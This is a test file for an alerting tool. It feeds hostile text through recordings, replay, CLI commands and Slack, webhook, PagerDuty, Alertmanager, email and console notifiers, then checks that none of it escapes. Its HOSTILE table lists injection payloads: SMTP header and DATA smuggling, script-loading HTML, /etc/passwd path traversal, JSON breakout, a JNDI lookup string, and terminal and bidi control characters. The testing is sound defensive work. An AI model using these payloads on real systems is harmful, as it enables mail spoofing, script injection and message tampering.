import { writeFileSync } from 'node:fs'
import { Writable } from 'node:stream'
import { beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_SETTINGS } from '../../src/detect/settings.js'
import { createIncidentMessage } from '../../src/message/message.js'
import { createNotifiers } from '../../src/notify/notifiers.js'
import { openRecording } from '../../src/recording/recording-reader.js'
import { planLooks, replayRun } from '../../src/replay/replay-run.js'
import { Secret } from '../../src/settings/secret.js'
import { runCli } from '../cli/run-cli.js'
import { connections, instant, listener } from '../detect/instants.js'
import { temporaryFolder, write } from '../recording/snapshots.js'
import { type HttpRequest, startHttpPeer } from '../servers/http-peer.js'
import type { ReceivedMail } from '../servers/mail.js'
import { startSmtpPeer } from '../servers/smtp-peer.js'

/** A pool of ten that fills and whose queue then stands: an incident that opens, and is over in the end. */
const OUTAGE = Array.from({ length: 40 }, (_, index) => index * 30).map((at) =>
	at < 300 || at >= 600
		? instant(at, [listener(), ...connections(2)])
		: instant(at, [listener(400), ...connections(10)]),
)

const FOLDER = temporaryFolder()

/** What the peers of one page run got. */
interface Received {
	readonly http: Readonly<Record<'slack' | 'webhook' | 'pagerduty' | 'alertmanager', readonly HttpRequest[]>>
	readonly mails: readonly ReceivedMail[]
	readonly printed: string
	/** What commands say of its recording. */
	readonly said: readonly string[]
	/** Requests at a server that no configuration names, but every hostile text. */
	readonly lured: number
}

/**
 * The text stands where others can put text: in the header of a recording, as a service's name and as the file that its capacity
 * is from (in a live run a process's command line names that), and as the name of the host. It goes through the recording, a
 * replay and every notifier to real servers.
 */
async function pageWith(makeText: (lure: string) => string): Promise<Received> {
	const lure = await startHttpPeer()
	const peers = {
		slack: await startHttpPeer(),
		webhook: await startHttpPeer(),
		pagerduty: await startHttpPeer({ status: 202, body: '{"status":"success"}' }),
		alertmanager: await startHttpPeer({ status: 200 }),
	}
	const smtp = await startSmtpPeer()
	const text = makeText(lure.url)
	let printed = ''
	const stream = new Writable({
		write(chunk, _encoding, done) {
			printed += String(chunk)
			done()
		},
	})
	const notifiers = createNotifiers(
		[
			{ type: 'console', name: 'console' },
			{
				type: 'slack',
				name: 'slack',
				url: new Secret(`${peers.slack.url}/services/T0`),
				mention: undefined,
				timeout: 5,
			},
			{ type: 'webhook', name: 'webhook', url: new Secret(`${peers.webhook.url}/hook`), secret: undefined, timeout: 5 },
			{ type: 'pagerduty', name: 'pagerduty', key: new Secret('k'), url: peers.pagerduty.url, timeout: 5 },
			{ type: 'alertmanager', name: 'am', url: new Secret(peers.alertmanager.url), refresh: 60, timeout: 5 },
			{
				...{ type: 'email', name: 'email', host: '127.0.0.1', port: smtp.port, tls: 'none', timeout: 5 },
				...{ user: undefined, password: undefined, verifyCertificate: true },
				...{ from: 'forewarn@example.org', to: ['oncall@example.org'] },
			} as Parameters<typeof createNotifiers>[0][number],
		],
		{ console: { stream, colour: false } },
	)

	const file = `${FOLDER}/hostile.fwr`
	write(file, OUTAGE, {
		pseudonymised: false,
		source: text,
		services: [
			{ name: text, ports: [80], capacity: { workers: 10, source: 'apache-config', provenance: `from ${text}` } },
		],
	})
	const { header, snapshots } = openRecording(file, (warning) => expect.fail(warning))
	const [service] = header.services!
	const circumstances = { host: text, drill: false, timeZone: () => 0, links: [] }
	const messages: ReturnType<typeof createIncidentMessage>[] = []
	const plan = {
		settings: { ...DEFAULT_SETTINGS, services: [{ ...DEFAULT_SETTINGS.services[0]!, name: service!.name }] },
		known: new Map([[service!.name, service!.capacity!]]),
		offset: 0,
		scenario: undefined,
	}
	replayRun(planLooks(snapshots, plan), plan, {
		event: (event) => messages.push(createIncidentMessage(event, circumstances, {})),
	})
	for (const message of messages) {
		for (const notifier of notifiers) {
			expect(await notifier.send(message, new AbortController().signal), notifier.name).toMatchObject({ kind: 'sent' })
		}
	}
	const said: string[] = []
	for (const words of COMMANDS) {
		const { out, err } = await runCli(words.map((word) => (word === 'FILE' ? file : word)))
		said.push(`${out}${err}`)
	}
	for (const peer of [lure, smtp, ...Object.values(peers)]) await peer.stop()
	const { slack, webhook, pagerduty, alertmanager } = peers
	return {
		http: {
			slack: slack.requests,
			webhook: webhook.requests,
			pagerduty: pagerduty.requests,
			alertmanager: alertmanager.requests,
		},
		mails: smtp.mails,
		printed,
		said,
		lured: lure.requests.length,
	}
}

const STRICTER = `${FOLDER}/stricter.yml`
writeFileSync(STRICTER, 'detection: { warnAhead: 2m }\n')

const COMMANDS = [
	['replay', 'FILE'],
	['replay', 'FILE', '--explain'],
	['replay', 'FILE', '--json'],
	['replay', 'FILE', '--compare', STRICTER],
	[
		'tune',
		'FILE',
		'--pattern',
		'gradual-saturation',
		'--onset',
		'240',
		'--first-failure',
		'320',
		'--set',
		'detection.warnAhead=2m',
		'--jobs',
		'1',
	],
	['share', 'FILE', '-o', `${FOLDER}/shared.fwr`],
]

const HOSTILE: Record<string, (lure: string) => string> = {
	'header fields and a second body': () => 'x\r\nBcc: victim@example.net\r\nX-Planted: yes\r\n\r\nsecond body',
	'the end of an SMTP message': () =>
		'x\r\n.\r\nMAIL FROM:<victim@example.net>\r\nRCPT TO:<victim@example.net>\r\nDATA',
	'a mention of everybody and a link in Slack': (lure) => `<!channel> <${lure}|click here> *bold*`,
	'HTML that fetches and runs': (lure) =>
		`"><img src="${lure}/x.png"><script src=${lure}/x.js></script><a href='${lure}'>`,
	'an address of its own': (lure) => lure,
	'a path that climbs': () => '../../../../etc/passwd',
	'an authority in front of a host': (lure) => `@${lure.replace('http://', '')}/?#`,
	'the end of a JSON string': () => '","severity":"info","routing_key":"planted',
	'a terminal’s escape sequences': () => '\u001b]0;planted\u0007\u001b[2J\u009b31m',
	'letters that run backwards': () => '\u202eplanted\u2066',
	'letters without width': () => '\u200bplanted\ufeff\u2060',
	'a null byte': () => 'a\u0000b',
	'a placeholder': (lure) => `\${jndi:ldap://planted} {{planted}} %0d%0aX-Planted:%20yes ${lure}`,
	'ten thousand letters': () => 'x'.repeat(10_000),
}

/** What steers a terminal, turns letters around or has no width. */
const CONTROL = /(?![\n\t])[\p{Cc}\p{Cf}]/u

const headerNames = ({ headers }: { headers: object | ReadonlyMap<string, string> }) =>
	[...(headers instanceof Map ? headers.keys() : Object.keys(headers))].sort()
const tagsOf = (html: string) => html.match(/<\/?[a-z!][a-z0-9]*/gi) ?? []

describe.each(Object.entries(HOSTILE))('text of strangers: %s', (_, makeText) => {
	let hostile: Received
	let harmless: Received

	beforeAll(async () => {
		harmless = await pageWith(() => 'shop')
		hostile = await pageWith(makeText)
	}, 40_000)

	it('reaches the servers of the configuration and no other, by the same requests', () => {
		expect(hostile.lured).toBe(0)
		for (const name of ['slack', 'webhook', 'pagerduty', 'alertmanager'] as const) {
			const shape = (requests: readonly HttpRequest[]) =>
				requests.map((request) => [request.method, request.path, headerNames(request)])
			expect(harmless.http[name].length, name).toBeGreaterThanOrEqual(2)
			expect(shape(hostile.http[name]), name).toEqual(shape(harmless.http[name]))
		}
	})

	it('stays a value: no key of a body is its work', () => {
		for (const name of ['slack', 'webhook', 'pagerduty', 'alertmanager'] as const) {
			const keys = (requests: readonly HttpRequest[]) => requests.map(({ body }) => keysOf(JSON.parse(body)))
			expect(keys(hostile.http[name]), name).toEqual(keys(harmless.http[name]))
		}
		for (const { body } of hostile.http.pagerduty) expect(JSON.parse(body).routing_key).toBe('k')
	})

	it('calls nobody and links nowhere in Slack', () => {
		for (const { body } of hostile.http.slack) {
			const { marked, literal } = textsOf(JSON.parse(body))
			expect(marked.length).toBeGreaterThan(0)
			for (const text of marked) expect(text).not.toMatch(/<[!@#hm]/)
			for (const text of [...marked, ...literal]) expect(text).not.toMatch(CONTROL)
		}
	})

	it('goes to the people of the configuration in mails of the same form', () => {
		const form = ({ from, to, headers, html }: ReceivedMail) => [from, to, headerNames({ headers }), tagsOf(html)]
		expect(hostile.mails.map(form)).toEqual(harmless.mails.map(form))
		expect(hostile.mails.length).toBeGreaterThanOrEqual(2)
		for (const { headers, text, html } of hostile.mails) {
			expect(headers.get('subject')).not.toMatch(CONTROL)
			expect(headers.get('to')).toBe('oncall@example.org')
			expect(text).not.toMatch(CONTROL)
			expect(html).not.toMatch(CONTROL)
		}
	})

	it('does not steer a terminal', () => {
		expect(hostile.printed).not.toMatch(CONTROL)
		expect(hostile.printed.length).toBeGreaterThan(1000)
		for (const said of hostile.said) expect(said).not.toMatch(CONTROL)
		for (const said of hostile.said) expect(said.length).toBeGreaterThan(10)
	})
})

/** All paths of keys in a JSON value. */
function keysOf(value: unknown, path = ''): string[] {
	if (typeof value !== 'object' || value === null) return [path]
	return Object.entries(value).flatMap(([key, inner]) => keysOf(inner, `${path}/${key}`))
}

/** The texts of a Slack message: those in which marks, mentions and links act, and those that Slack takes as they are. */
function textsOf(value: unknown): { marked: string[]; literal: string[] } {
	if (typeof value !== 'object' || value === null) return { marked: [], literal: [] }
	const { type, text } = value as { type?: unknown; text?: unknown }
	const isLiteral = type === 'plain_text' || type === 'text'
	const own = typeof text === 'string' ? [text] : []
	const inner = Object.values(value).map(textsOf)
	return {
		marked: [...(isLiteral ? [] : own), ...inner.flatMap(({ marked }) => marked)],
		literal: [...(isLiteral ? own : []), ...inner.flatMap(({ literal }) => literal)],
	}
}
